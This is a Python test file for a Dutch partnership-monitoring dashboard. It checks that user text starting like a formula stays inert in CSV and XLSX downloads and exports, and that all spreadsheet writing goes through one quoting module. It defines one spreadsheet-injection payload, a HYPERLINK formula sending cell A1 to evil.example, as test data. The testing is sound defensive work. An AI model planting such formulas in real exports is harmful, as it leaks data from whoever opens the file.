"""User text is inert in files (docs/security.md): a name or text someone typed that starts like
a formula reaches every CSV and XLSX download and export as text, never as a live formula."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import zipfile
from datetime import date
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import insert

from collectors import agreements as register
from dashboard.app import create_app
from db import models as m
from tests.conftest import SEPTET
from tests.login import logged_in_client
from tests.test_agreements import EEM, UTS, seed_partners
from tests.test_auth import _download

REPO = Path(__file__).resolve().parent.parent
# A formula Excel would run when the beheerder opens the file (OWASP "CSV injection").
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")'


def _xlsx_cells(content: bytes) -> list:
    """Every cell of every sheet of an XLSX file, after checking the file holds no formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode(), name  # no stored formula
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_xlsx_keeps_text(content: bytes, text: str = FORMULA) -> None:
    cells = _xlsx_cells(content)
    hostile = [c for c in cells if c.value == text]
    assert hostile, f"{text!r} not in the workbook"
    assert all(c.data_type == "s" for c in hostile)
    assert not any(c.data_type == "f" for c in cells)


def _csv_cells(text: str) -> list[str]:
    """The cells of a download: a Dutch one (BOM first) is ";"-separated for Dutch Excel."""
    dutch = text.startswith("\ufeff")
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";" if dutch else ",")
    return [cell for row in rows for cell in row]


def _download_content(client, table: str, fmt: str) -> bytes | str:
    response = _download(client, table, {"network": "UTS", "lang": "nl"}, fmt)
    assert response.status_code == 200, response.get_data(True)[:300]
    data = json.loads(response.get_data(True))["response"]["download"]["data"]
    return base64.b64decode(data["content"]) if data.get("base64") else data["content"]


@pytest.fixture
def hostile(ctx):
    """A partner named with a formula and an agreement described with one, in Utrecht stad."""
    seed_partners(ctx, "UTS", {**UTS, "U9": (FORMULA, "huisarts")})
    seed_partners(ctx, "EEM", EEM)
    register.save_agreement(
        ctx.engine,
        ctx.consortium_id,
        network="UTS",
        topic="warme_overdracht",
        description=FORMULA,
        since=date(2025, 9, 1),
        next_evaluation=date(2026, 9, 1),
        partners=["U9", "U1"],
        user_id=None,
        today=date(2026, 3, 1),
    )
    return ctx


@pytest.mark.parametrize("table", ["partners", "agreements"])
def test_a_formula_in_a_download_stays_text(hostile, table):
    admin = logged_in_client(create_app(hostile), hostile, "admin")
    _assert_xlsx_keeps_text(_download_content(admin, table, "xlsx"))
    cells = _csv_cells(_download_content(admin, table, "csv"))
    assert "'" + FORMULA in cells and FORMULA not in cells
    # the partner list of the agreement holds the name too, after another partner's name
    if table == "agreements":
        assert any(c.endswith(FORMULA) and c != "'" + FORMULA for c in cells)


def _ingest_hostile(database_url: str, tmp_path: Path, monkeypatch) -> CliRunner:
    """A survey file whose network cell holds a formula: ingest rejects the row, keeping it."""
    from samenwerkingsmonitor.cli import main

    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("FRAMEWORK_FILE", str(SEPTET))
    path = tmp_path / "one.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["response_id", "network", "group", "wave", "submitted_at", "VER1"])
        writer.writerow(["r1", FORMULA, "ZP", "2031", "2031-10-01", "4"])
    runner = CliRunner()
    result = runner.invoke(main, ["ingest", str(path)], catch_exceptions=False)
    assert "1 rejected" in result.output, result.output
    return runner


def test_the_rejects_export_keeps_a_formula_as_text(database_url, ctx, tmp_path, monkeypatch):
    from dashboard.pages.data import rejects_download
    from samenwerkingsmonitor.cli import main

    runner = _ingest_hostile(database_url, tmp_path, monkeypatch)
    for suffix in ("xlsx", "csv"):
        out = tmp_path / f"rejects.{suffix}"
        result = runner.invoke(main, ["rejects", "--out", str(out)], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        if suffix == "xlsx":
            _assert_xlsx_keeps_text(out.read_bytes())
        else:
            assert "'" + FORMULA in _csv_cells(out.read_text(encoding="utf-8-sig"))
    # the Gegevens page's download of the same rows
    _assert_xlsx_keeps_text(base64.b64decode(rejects_download(ctx, "xlsx")["content"]))
    assert "'" + FORMULA in _csv_cells(rejects_download(ctx, "csv")["content"])


def test_the_export_cli_keeps_a_formula_as_text(database_url, ctx, tmp_path, monkeypatch):
    from samenwerkingsmonitor.cli import main

    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("FRAMEWORK_FILE", str(SEPTET))
    goal = {"consortium_id": ctx.consortium_id, "code": "G9", "name": FORMULA}
    goal |= {"baseline_value": -2.5, "baseline_date": date(2024, 1, 1)}
    goal |= {"target_value": 10.0, "deadline": date(2028, 1, 1)}
    with ctx.engine.begin() as c:
        goal_id = c.execute(insert(m.Goal).values(**goal)).inserted_primary_key[0]
        c.execute(
            insert(m.GoalValue).values(goal_id=goal_id, measured_at=date(2025, 1, 1), value=1)
        )
    for fmt in ("xlsx", "csv"):
        out = tmp_path / f"goals.{fmt}"
        args = ["export", "goals", "--format", fmt, "--out", str(out)]
        result = CliRunner().invoke(main, args, catch_exceptions=False)
        assert result.exit_code == 0, result.output
        if fmt == "xlsx":
            _assert_xlsx_keeps_text(out.read_bytes())
        else:
            frame = pd.read_csv(out)
            assert set(frame["name"]) == {"'" + FORMULA}
            assert list(frame["baseline_value"]) == [-2.5]  # a negative figure stays a number


def test_neutralise_cells_quotes_text_only():
    from samenwerkingsmonitor.inert import neutralise_cells

    frame = pd.DataFrame(
        {
            "text": ["=1+1", "+31 6", "-0,5 %-punt", "@SUM(A1)", "\tx", "\rx", "gewoon", None],
            "number": [-0.5, -1.0, 2.0, np.nan, 0.0, 1.0, -3.0, 4.0],
        }
    )
    quoted = neutralise_cells(frame)
    assert list(quoted["text"][:6]) == [
        "'=1+1",
        "'+31 6",
        "'-0,5 %-punt",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    assert quoted["text"][6] == "gewoon" and pd.isna(quoted["text"][7])
    assert quoted["number"].equals(frame["number"])  # negative numbers stay numbers
    assert frame["text"][0] == "=1+1"  # the caller's frame is left alone


# What writes a spreadsheet (reading one, with openpyxl's load_workbook, is no concern here).
WRITERS = re.compile(
    r"\.to_csv\(|\.to_excel\(|ExcelWriter|send_data_frame|csv\.writer|\bWorkbook\("
)


def test_every_spreadsheet_writer_goes_through_the_one_module():
    """A new export cannot forget the rule: only samenwerkingsmonitor/inert.py writes CSV or
    XLSX (bench/ writes its own synthetic input files)."""
    allowed = {"samenwerkingsmonitor/inert.py"}
    offenders = []
    for package in (
        "charts",
        "collectors",
        "dashboard",
        "db",
        "metrics",
        "reports",
        "samenwerkingsmonitor",
    ):
        for path in sorted((REPO / package).rglob("*.py")):
            name = path.relative_to(REPO).as_posix()
            if name not in allowed and WRITERS.search(path.read_text(encoding="utf-8")):
                offenders.append(name)
    assert offenders == []
